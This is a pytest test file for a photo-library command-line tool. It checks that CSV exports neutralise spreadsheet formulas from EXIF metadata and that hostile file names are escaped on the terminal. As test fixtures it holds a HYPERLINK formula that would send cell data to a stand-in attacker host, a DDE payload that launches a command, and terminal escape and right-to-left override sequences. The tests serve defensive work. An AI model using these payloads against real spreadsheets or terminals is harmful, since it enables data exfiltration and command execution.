"""Untrusted text on the way out: CSV cells a spreadsheet would run, and file names that drive the terminal."""

from __future__ import annotations

import csv
import io
import os
import struct
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image, TiffImagePlugin

from aesthete_gui.cli import main
from aesthete_gui.safe_text import spreadsheet_cell, terminal_text
from tests.imaging.conftest import exif_with, photo

REPO = Path(__file__).resolve().parents[2]
CLI = [sys.executable, "-c", "from aesthete_gui.cli import main; raise SystemExit(main())"]
FORMULAS = {
    "camera": '=HYPERLINK("http://attacker.invalid/?"&A1,"Canon")',
    "lens": "+cmd|' /C calc'!A0",
}


def _run(profile: Path, *args: str) -> int:
    return main(["--profile", str(profile), *args])


def test_exported_csv_neutralises_formulas_from_exif(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shoot = tmp_path / "shoot"
    shoot.mkdir()
    exif = exif_with(model=FORMULAS["camera"], lens=FORMULAS["lens"], when="2024:01:02 03:04:05")
    photo((96, 64)).save(shoot / "@evil.jpg", "JPEG", exif=exif)
    photo((96, 64), "coffee").save(shoot / "plain.jpg", "JPEG", exif=exif_with(model="-5 EV body"))
    profile = tmp_path / "p.db"
    assert _run(profile, "import", "--quiet", "--workers", "1", str(shoot)) == 0
    assert _run(profile, "mark", str(shoot / "plain.jpg"), "--stars", "3") == 0
    capsys.readouterr()
    assert _run(profile, "export", "--format", "csv") == 0
    rows = {Path(r["path"]).name: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    evil, plain = rows["@evil.jpg"], rows["plain.jpg"]
    assert evil["camera"] == "'" + FORMULAS["camera"] and evil["lens"] == "'" + FORMULAS["lens"]
    assert plain["camera"] == "'-5 EV body"
    assert plain["stars"] == "3" and evil["width"] == "96"  # numbers are left as numbers
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows.values() for value in row.values())


def test_control_characters_in_file_names_are_escaped_on_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shoot = tmp_path / "shoot"
    shoot.mkdir()
    hostile = "clear\x1b[2J\x1b]0;owned\x07\rname\u202egpj.jpg"
    photo((64, 48)).save(shoot / hostile, "JPEG")
    (shoot / "broken\x1b[31m.jpg").write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg")
    profile = tmp_path / "p.db"
    assert _run(profile, "import", "--quiet", "--workers", "1", str(shoot)) == 0
    assert _run(profile, "images") == 0
    assert _run(profile, "mark", str(shoot / "gone\x1b[2J.jpg"), "--stars", "2") == 2
    captured = capsys.readouterr()
    text = captured.out + captured.err
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text and "\u202e" not in text
    assert "clear\\x1b[2J\\x1b]0;owned\\x07\\x0dname\\u202egpj.jpg" in captured.out
    assert "broken\\x1b[31m.jpg" in captured.out
    assert "image not in the profile: " in captured.err and "gone\\x1b[2J.jpg" in captured.err


def test_the_helpers() -> None:
    assert terminal_text("a\tb\nc\x7f\x9b\udce9") == "a\\x09b\\x0ac\\x7f\\x9b\\xe9"
    assert terminal_text("café ² 日本") == "café ² 日本"
    assert [spreadsheet_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", 5, -1.5, None)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "ok", 5, -1.5, None,
    ]  # fmt: skip


def _tiff_variants(folder: Path) -> None:
    """TIFFs that make libtiff warn (unsorted tags, unterminated text) or Pillow log an error."""
    rng = np.random.default_rng(1)
    image = Image.fromarray(rng.integers(0, 255, (200, 300, 3), dtype=np.uint8))
    info = TiffImagePlugin.ImageFileDirectory_v2()
    info[305] = "Scanner 1.0"
    buffer = io.BytesIO()
    image.save(buffer, "TIFF", compression="tiff_lzw", tiffinfo=info)
    data = bytearray(buffer.getvalue())
    ifd = struct.unpack("<I", data[4:8])[0]
    entries = [ifd + 2 + 12 * i for i in range(struct.unpack("<H", data[ifd:ifd + 2])[0])]
    unterminated = bytearray(data)
    for entry in entries:
        tag, _, count, where = struct.unpack("<HHII", unterminated[entry:entry + 12])
        if tag == 305:  # Software: drop the terminating NUL from its count
            unterminated[entry + 4:entry + 8] = struct.pack("<I", count - 1)
            unterminated[where + count - 1] = ord("X")
    (folder / "unterminated.tif").write_bytes(bytes(unterminated))
    unsorted = bytearray(data)
    first, second = entries[0], entries[1]
    unsorted[first:first + 12], unsorted[second:second + 12] = data[second:second + 12], data[first:first + 12]
    (folder / "unsorted.tif").write_bytes(bytes(unsorted))
    scrambled = bytearray(data)
    for index in range(300, len(scrambled), 97):
        scrambled[index] ^= 0x5A
    (folder / "scrambled.tif").write_bytes(bytes(scrambled))


def test_decoder_warnings_never_reach_the_terminal(tmp_path: Path) -> None:
    shoot = tmp_path / "shoot"
    shoot.mkdir()
    _tiff_variants(shoot)
    for workers in ("1", "2"):
        profile = tmp_path / f"p{workers}.db"
        done = subprocess.run([*CLI, "--profile", str(profile), "import", "--quiet", "--workers", workers, str(shoot)],
                              capture_output=True, text=True, cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
                              timeout=120)  # fmt: skip
        assert done.returncode == 0 and done.stderr == "", done.stderr
        assert "3 image files found: 2 imported" in done.stdout
        assert "scrambled.tif: corrupt TIFF file: header not readable (decoder: More samples per pixel" in done.stdout


def test_a_csv_export_into_a_file_keeps_the_real_paths(tmp_path: Path) -> None:
    """An attack: `export --format csv > out.csv` wrote a name holding a carriage return as the text
    "\\x0d": a path no program can open (--output and JSON kept it). Data into a file goes as it is."""
    shoot = tmp_path / "shoot"
    shoot.mkdir()
    photo((64, 48)).save(shoot / "ret\rname.jpg", "JPEG")
    profile = tmp_path / "p.db"
    assert _run(profile, "import", "--quiet", "--workers", "1", str(shoot)) == 0
    out = tmp_path / "out.csv"
    with open(out, "w", encoding="utf-8") as handle:
        done = subprocess.run([*CLI, "--profile", str(profile), "export", "--format", "csv"], stdout=handle,
                              stderr=subprocess.PIPE, text=True, cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)})  # fmt: skip
    assert done.returncode == 0, done.stderr
    with open(out, encoding="utf-8", newline="") as handle:
        paths = [row["path"] for row in csv.DictReader(handle)]
    assert paths == [str(shoot / "ret\rname.jpg")] and Path(paths[0]).exists()
